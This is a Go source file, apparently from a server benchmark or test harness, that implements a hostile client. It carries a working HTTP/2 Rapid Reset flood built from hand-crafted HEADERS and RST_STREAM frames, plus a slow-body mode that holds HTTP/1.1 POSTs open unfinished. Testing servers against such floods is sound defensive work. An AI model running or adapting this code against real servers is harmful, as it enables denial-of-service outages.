package main

import (
	"bufio"
	"crypto/tls"
	"encoding/binary"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sync/atomic"
	"time"
)

// Types and flags of frames (RFC 9113 6).
const (
	frameHeaders   = 1
	frameReset     = 3
	frameSettings  = 4
	endOfAll       = 5 // END_STREAM and END_HEADERS
	codeCancel     = 8 // RFC 9113 7
	streamMax      = 1<<31 - 1
	attackingPause = 10 * time.Millisecond
)

// runAttack is one hostile client, until a line or the end of standard input comes. Then it says how often it did what it
// does: requests that it took back at once (Rapid Reset), or bodies that it began and never ended.
func runAttack(args []string) {
	flags := flag.NewFlagSet("attack", flag.ExitOnError)
	c := clientFlags(flags)
	kind := flags.String("kind", "reset", "reset or slow-bodies")
	host := flags.String("host", "h2.bench.test", "the target's name")
	count := flags.Int("count", 200, "in slow-bodies, how many")
	flags.Parse(args)
	client := c()
	var done atomic.Int64
	var held []*tunnel // else they would be collected, and closed
	switch *kind {
	case "reset":
		go func() {
			for {
				client.reset(*host, &done)
				time.Sleep(attackingPause)
			}
		}()
	case "slow-bodies":
		go func() {
			for range *count {
				if open, err := client.beginBody(*host); err == nil {
					held = append(held, open)
					done.Add(1)
				}
			}
		}()
	default:
		fail("unknown kind " + *kind)
	}
	bufio.NewReader(os.Stdin).ReadString('\n')
	say(map[string]any{"done": done.Load()})
}

// reset asks and takes it back, as fast as it can, until the connection is ended.
func (c *client) reset(host string, done *atomic.Int64) {
	raw, err := c.way(host)
	if err != nil {
		return
	}
	defer raw.Close()
	config := c.tls.Clone()
	config.NextProtos = []string{"h2"}
	config.ServerName = host
	secured := tls.Client(raw, config)
	hello := append([]byte("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(frameSettings, 0, 0, nil)...)
	if _, err := secured.Write(hello); err != nil {
		return
	}
	go io.Copy(io.Discard, secured)
	head := c.fields(host)
	cancel := binary.BigEndian.AppendUint32(nil, codeCancel)
	for stream := uint32(1); stream < streamMax; stream += 2 {
		both := append(frame(frameHeaders, endOfAll, stream, head), frame(frameReset, 0, stream, cancel)...)
		if _, err := secured.Write(both); err != nil {
			return
		}
		done.Add(1)
	}
}

func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	out := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return append(binary.BigEndian.AppendUint32(out, stream), payload...)
}

// fields is a head of literal fields without indexing (RFC 7541 6.2.2).
func (c *client) fields(host string) []byte {
	var out []byte
	for _, field := range [][2]string{
		{":method", "GET"}, {":scheme", "https"}, {":path", c.path}, {":authority", net.JoinHostPort(host, c.port)},
	} {
		out = append(out, 0)
		for _, text := range field {
			out = append(append(out, byte(len(text))), text...)
		}
	}
	return out
}

// beginBody sends a head and a part of the body that it announces, and nothing more.
func (c *client) beginBody(host string) (*tunnel, error) {
	open, err := c.open(host)
	if err != nil {
		return nil, err
	}
	_, err = fmt.Fprintf(open.tls, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 100\r\n\r\nbegun",
		c.path, net.JoinHostPort(host, c.port))
	return open, err
}
